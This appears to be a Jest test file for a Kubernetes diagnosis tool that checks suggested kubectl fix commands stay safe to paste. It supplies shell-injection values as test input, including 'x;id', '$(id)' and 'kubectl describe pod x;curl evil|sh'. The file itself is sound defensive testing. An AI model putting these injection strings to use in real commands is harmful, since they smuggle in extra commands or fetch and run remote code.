import { expect, test } from '@jest/globals'
import { diagnose } from '../../../src/diagnosis/engine/engine.ts'
import { run } from '../../../src/diagnosis/fix.ts'
import { isPlainWord, pasteable, staysAsMeant } from '../../../src/diagnosis/pasteable.ts'
import { evidenceOf, listOf } from '../../support/evidence.ts'
import { pod } from '../report/sample.ts'

test.each([
  ['kro-system', true],
  ['registry.example:5000/app@sha256:0a', true],
  ['https://x.example/a_b~c%20d', true],
  ['x;id', false],
  ['$(id)', false],
  ['`id`', false],
  ['a b', false],
  ['a\nb', false],
  ['--all', false],
  ["it's", false],
  ['a>b', false],
])('%j is a word that a shell takes as it is: %s', (text, expected) => {
  expect(isPlainWord(text)).toBe(expected)
})

test.each([
  ['kubectl get ns {x}', 'a', true],
  ['kubectl get ns {x}', '$(id)', false],
  ["grep '{x}' file", '$(id) and more', true],
  ["grep '{x}' file", "'; id; '", false],
  ['grep "{x}" file', 'two words', true],
  ['grep "{x}" file', '$(id)', false],
  ["kubectl get pods   # it's of {x}", 'two words; id', true],
  ["kubectl get pods   # it's of {x}", 'a\nid', false],
  ["kubectl get a   # it's one\nkubectl get {x}", 'a;id', false],
  ['kubectl get {x|pods}', '', true],
])('%j filled with %j stays what it is meant to be: %s', (template, x, expected) => {
  expect(staysAsMeant(template, { x })).toBe(expected)
})

/** What is left of a finding's commands where an object has that name, and a line that text. */
function commandsOf(name: string, text: string, ...commands: string[]): unknown {
  const evidence = evidenceOf({ 'evidence/api/pods.json': listOf(pod(name, 'x')) })
  const quote = { file: 'evidence/api/pods.json', line: 1, text }
  const found = {
    ...{ title: 't', detail: 'd', evidence: [quote], fix: commands.map(run) },
  }
  const rule = {
    ...{ id: 'rbac/binding-missing', component: 'rbac', description: 'd', find: () => [found] },
  } as unknown as Parameters<typeof diagnose>[1] extends readonly (infer R)[] | undefined ? R : never
  return diagnose(evidence, [rule]).findings[0]?.fix
}

test('a command with a name that a shell would run is left out, wherever the name comes from', () => {
  const safe = 'kubectl get pods -A   # all of them'
  expect(commandsOf('app-1', 'pod "app-1" is gone', 'kubectl describe pod app-1', safe)).toHaveLength(2)
  expect(commandsOf('x;curl evil|sh', 'x', 'kubectl describe pod x;curl evil|sh', safe)).toEqual([run(safe)])
  expect(commandsOf('a', 'namespaces "x;id" not found', 'kubectl create namespace x;id', safe)).toEqual([
    run(safe),
  ])
})

test('neither is one with a text of access.json, which an artifact of others may have written', () => {
  const asked = { verb: 'list', group: 'x.dev', resource: 'things', subresource: null, namespace: 'demo' }
  const granted = { binding: 'ClusterRoleBinding/kro', role: 'ClusterRole/kro', namespace: null }
  const lists = { apiGroups: [], resources: [], resourceNames: [], nonResourceURLs: [], verbs: [] }
  const left = (check: Partial<typeof asked>, rule: Partial<typeof granted>): number => {
    const evidence = evidenceOf({
      'evidence/rbac/access.json': JSON.stringify({
        serviceAccount: { namespace: 'kro-system', name: 'kro' },
        rules: [{ ...granted, ...lists, ...rule }],
        checks: [{ ...asked, neededBy: 'RGD web', allowed: false, reason: null, ...check }],
      }),
    })
    const words = [
      { ...asked, ...check },
      { ...granted, ...rule },
    ].flatMap((one) => Object.values(one).filter((word) => word !== null))
    return pasteable([run(`kubectl ${words.join(' ')}`)], evidence, []).length
  }
  expect(left({}, {})).toBe(1)
  for (const name of ['verb', 'group', 'resource', 'namespace'] as const)
    expect([name, left({ [name]: 'a;id' }, {})]).toEqual([name, 0])
  for (const name of ['binding', 'role'] as const)
    expect([name, left({}, { [name]: 'a;id' })]).toEqual([name, 0])
})
